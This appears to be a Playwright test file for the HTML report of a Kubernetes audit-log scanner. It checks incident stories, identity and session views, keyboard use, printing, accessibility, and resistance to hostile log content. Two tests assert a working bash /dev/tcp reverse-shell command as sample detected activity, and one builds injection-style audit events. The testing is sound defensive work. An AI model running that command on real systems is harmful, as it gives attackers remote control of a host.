import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT, runCli } from '../cli/run-cli.ts';
import { HOSTILE } from '../outputs/findings.ts';
import { axeFinds } from './axe.ts';
import { goTo } from './go-to.ts';

interface OpenOptions {
  readonly viewport?: { readonly width: number; readonly height: number };
  readonly colorScheme?: 'light' | 'dark';
}

/** Opens pages in the browser that all tests share. */
export interface Opener {
  open(url: string, options?: OpenOptions): Promise<Page>;
  /** What pages complained about or asked for since the last one was opened. */
  readonly troubles: readonly string[];
}

const ITEMS = ['incidents', 'identities', 'objects', 'sessions'] as const;
/** Every page, with something open on those that have a list. */
const HASHES = [
  'view=incidents&item=59919b17',
  'view=activity&shown=12',
  'view=identities&item=mallory@example.com',
  'view=objects&item=kube-system/configmaps/aws-auth',
  'view=sessions&item=3',
  'view=input',
];

/** Scans files to an HTML report. @returns its address */
async function scanned(...args: readonly string[]): Promise<string> {
  const file = join(mkdtempSync(join(tmpdir(), 'k8s-audit-')), 'case.html');
  await runCli({ args: ['scan', ...args, '-q', '-o', file], cwd: ROOT });
  return pathToFileURL(file).href;
}

/** An event of which every text is the same. */
function hostileEvent(text: string, index: number): string {
  const command = encodeURIComponent(Buffer.from(text).toString());
  const resource = (['pods', 'secrets', 'clusterrolebindings'] as const)[index % 3]!;
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `${text}${index}`,
    stage: 'ResponseComplete',
    requestURI: `/api/v1/namespaces/x/pods/x/exec?command=${command}&stdin=true`,
    verb: 'create',
    user: { username: text, groups: [text, 'system:masters'], extra: { [text]: [text] } },
    sourceIPs: [text],
    userAgent: text,
    objectRef: {
      resource,
      namespace: text,
      name: text,
      apiVersion: 'v1',
      ...(resource === 'pods' ? { subresource: 'exec' } : {}),
    },
    responseStatus: { code: 201, message: text },
    requestObject: {
      metadata: { name: text, labels: { [text]: text } },
      data: { [text]: text },
      roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
      subjects: [{ kind: 'User', name: text }],
    },
    responseObject: { metadata: { name: text, labels: { [text]: text } } },
    requestReceivedTimestamp: `2026-01-02T03:04:${String(index % 60).padStart(2, '0')}.000000Z`,
    stageTimestamp: `2026-01-02T03:04:${String(index % 60).padStart(2, '0')}.000000Z`,
    annotations: {
      'authorization.k8s.io/decision': 'allow',
      'authorization.k8s.io/reason': text,
    },
  });
}

/** Tests of the pages of a case file that tell more than findings: reports are made by the program from logs. */
export function describeCaseViews(opener: Opener): void {
  describe('a case file', () => {
    let samples = '';
    let page: Page;

    beforeAll(async () => {
      samples = await scanned('samples');
      page = await opener.open(samples, { viewport: { width: 1600, height: 900 } });
    });
    afterAll(() => page.close());

    const main = (): Promise<string> => page.locator('main').innerText();
    const go = async (hash: string): Promise<void> => {
      await goTo(page, hash);
    };
    const tab = (name: string): Promise<void> =>
      page.getByRole('navigation').getByRole('button', { name, exact: true }).click();

    it('tells incidents as stories, and leads to their findings, users and objects', async () => {
      await tab('Incidents');
      await page.locator('.choice').first().click();
      const detail = page.locator('.detail');
      await expect.poll(() => detail.locator('.steps > li').count()).toBeGreaterThan(3);
      const text = await detail.innerText();
      for (const part of [
        'Exec Runs Reverse Shell or Downloader by mallory@example.com',
        'Execution → Credential Access',
        "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'",
        'Belongs here: the same credential',
        'What the log does not show',
        'k8s-audit show',
      ]) {
        expect(text).toContain(part);
      }
      await detail.getByRole('button', { name: 'finding', exact: true }).first().click();
      await expect
        .poll(() => page.locator('.detail h2').innerText())
        .toContain('Exec Reads Credentials');
      await page.getByRole('button', { name: /^Incident: Exec Runs Reverse Shell/ }).click();
      await expect.poll(() => page.url()).toContain('view=incidents');
      await page.getByRole('button', { name: 'Identity mallory@example.com' }).click();
      await expect.poll(() => page.url()).toContain('view=identities');
    });

    it('counts all findings of an identity in the list, of rules too that its page has no room for', async () => {
      await go('view=identities');
      await expect.poll(main).toContain('31 requests, 38 findings');
    });

    it('tells what an identity did, and leads to its findings, requests and sessions', async () => {
      await go('view=identities&item=mallory@example.com');
      await expect.poll(main).toContain('Secrets read');
      const text = await main();
      for (const part of [
        '31: 30 allowed, 1 denied',
        '198.51.100.23',
        'Kubelet Commands Through API Server',
        '4 more, not in this page.',
      ]) {
        expect(text).toContain(part);
      }
      await page.getByRole('button', { name: 'Its requests' }).click();
      await expect.poll(() => page.locator('.count').innerText()).toMatch(/^\d+ of 103 requests$/);
      await go('view=identities&item=mallory@example.com');
      await page.getByRole('button', { name: /^\d+ sessions$/ }).click();
      await expect.poll(() => page.locator('.count').innerText()).toBe('7 of 9 sessions');
      await page.goBack();
      await expect.poll(() => page.url()).toContain('view=identities');
    });

    it('tells who changed an object, and what', async () => {
      await go('view=objects&item=kube-system/configmaps/aws-auth');
      await expect.poll(() => page.locator('.diff .after').count()).toBeGreaterThan(0);
      expect(await page.locator('.diff .before').count()).toBeGreaterThan(0);
      expect(await main()).toContain('system:masters');
      await page.getByRole('button', { name: 'Its findings' }).click();
      await expect.poll(() => page.locator('.count').innerText()).toMatch(/^1 of \d+ rows$/);
    });

    it('tells what ran in sessions', async () => {
      // What was chosen among findings goes along until it is let go.
      await tab('Sessions');
      await page.getByRole('button', { name: 'Show all' }).click();
      await page.fill('#search', 'reverse 4444');
      await expect.poll(() => page.locator('.count').innerText()).toBe('0 of 9 sessions');
      await page.fill('#search', '4444');
      await expect.poll(() => page.locator('.count').innerText()).toBe('1 of 9 sessions');
      await page.locator('.choice').click();
      await expect
        .poll(() => page.locator('.detail pre').first().innerText())
        .toBe("bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'");
      await page.getByRole('button', { name: 'Finding', exact: true }).click();
      await expect.poll(() => page.locator('.detail h2').innerText()).toContain('Reverse Shell');
      await page.getByRole('button', { name: 'Session', exact: true }).click();
      await expect.poll(() => page.url()).toContain('view=sessions');
    });

    it('lists requests with the filters of findings, and says which are only counted', async () => {
      await go('view=activity');
      const count = page.locator('.count');
      await expect.poll(() => count.innerText()).toBe('103 of 103 requests');
      expect(await main()).toContain('Counted only, since a cluster makes them all day');
      await page.locator('.severity.s-denied').click();
      await expect.poll(() => count.innerText()).toBe('4 of 103 requests');
      expect(page.url()).toContain('result=denied');
      await page.locator('.row').first().click();
      await page.getByRole('button', { name: /^user is (?!not )/ }).click();
      await expect.poll(() => page.url()).toContain('is=user');
      expect(page.url()).toContain('view=activity');
      await go('view=activity&is=rule:none');
      // Requests have no rules: what is chosen by one stays, and is shown as idle.
      await expect.poll(() => count.innerText()).toBe('103 of 103 requests');
      expect(await page.locator('.terms .idle').count()).toBe(1);
      await go('view=activity&group=verb');
      await expect.poll(() => page.locator('.groups tbody tr').count()).toBeGreaterThan(4);
    });

    it('leads from a finding to what its user did around then', async () => {
      await go('q=reverse+shell+4444');
      await page.locator('.row').first().click();
      await page.getByRole('button', { name: 'What this user did around then' }).click();
      await expect.poll(() => page.locator('.count').innerText()).toMatch(/^\d of 103 requests$/);
      expect(page.url()).toContain('from=');
    });

    it('tells levels, stages, what the log cannot show and which rules were blind', async () => {
      await tab('Input');
      const text = await main();
      for (const part of [
        'Metadata 135',
        'ResponseStarted 6',
        'What this log cannot show',
        'Rules that could not be decided everywhere',
      ]) {
        expect(text).toContain(part);
      }
    });

    it.each(ITEMS)('works %s by keys', async (name) => {
      await go('view=findings');
      await tab(`${name[0]!.toUpperCase()}${name.slice(1)}`);
      await expect.poll(() => page.locator('.choice').count()).toBeGreaterThan(1);
      await page.keyboard.press('Enter');
      await page.locator('.detail').waitFor();
      const first = page.url();
      await page.keyboard.press('j');
      await expect.poll(() => page.url()).not.toBe(first);
      await page.keyboard.press('k');
      await expect.poll(() => page.url()).toBe(first);
      await page.keyboard.press('Enter');
      expect(await page.evaluate('document.activeElement.id')).toBe('detail');
      await page.keyboard.press('Escape');
      await expect.poll(() => page.locator('.detail').count()).toBe(0);
      await page.keyboard.press('/');
      await page.keyboard.type('no such text');
      await expect.poll(() => page.locator('.choice').count()).toBe(0);
      await page.keyboard.press('Escape');
    });

    it.each(ITEMS)('prints %s in full', async (name) => {
      await go(`view=${name}`);
      const shown = page.locator('.choice');
      await expect.poll(() => shown.count()).toBeGreaterThan(1);
      const entries = await shown.count();
      await page.emulateMedia({ media: 'print' });
      await page.evaluate("dispatchEvent(new Event('beforeprint'))");
      expect(await page.locator('.paper .detail').count()).toBe(entries);
      expect(await page.locator('.paper .detail h2').first().isVisible()).toBe(true);
      expect(await page.locator('.items').isVisible()).toBe(false);
      await page.evaluate("dispatchEvent(new Event('afterprint'))");
      await page.emulateMedia({ media: 'screen' });
    });

    it.each([390, 2560])('does not scroll sideways in a window of %i', async (width) => {
      await page.setViewportSize({ width, height: 800 });
      for (const hash of [...HASHES, ...HASHES.map((each) => each.split('&')[0]!)]) {
        await go(hash);
        await page.locator('main').waitFor();
        const inner = await page.evaluate<number>('document.documentElement.scrollWidth');
        expect([hash, inner]).toEqual([hash, Math.min(inner, width)]);
      }
      await page.setViewportSize({ width: 1600, height: 900 });
    });

    it.each(['light', 'dark'] as const)('is clean for axe in %s', async (colorScheme) => {
      await page.emulateMedia({ colorScheme });
      for (const hash of HASHES) {
        await go(hash);
        await page
          .locator(hash.includes('=input') ? 'main h2' : '.detail')
          .first()
          .waitFor();
        expect([hash, ...(await axeFinds(page, colorScheme))]).toEqual([hash]);
      }
      expect(opener.troubles).toEqual([]);
    });

    it('runs nothing and requests nothing that a hostile log wants, on any page', async () => {
      const log = join(mkdtempSync(join(tmpdir(), 'k8s-audit-')), 'hostile.log');
      const lines = HOSTILE.flatMap(([, text], index) => [
        hostileEvent(text, 3 * index),
        hostileEvent(text, 3 * index + 1),
        hostileEvent(text, 3 * index + 2),
      ]);
      writeFileSync(log, `${lines.join('\n')}\n`);
      const hostile = await opener.open(await scanned(log));
      for (const name of ITEMS) {
        await goTo(hostile, `view=${name}`);
        await expect.poll(() => hostile.locator('.choice').count()).toBeGreaterThan(0);
        const entries = await hostile.locator('.choice').count();
        for (let i = 0; i < entries; i++) {
          await hostile.keyboard.press('j');
          await hostile.locator('.detail').waitFor();
        }
      }
      await goTo(hostile, 'view=activity&shown=0');
      await hostile.locator('.detail').waitFor();
      expect(
        await hostile.locator('img, iframe, object, embed, main a, main script, [onerror]').count(),
      ).toBe(0);
      const text = await hostile.evaluate<string>('document.body.innerText');
      expect(text).not.toContain('hunter2');
      expect(opener.troubles).toEqual([]);
      await hostile.close();
    });
  });
}
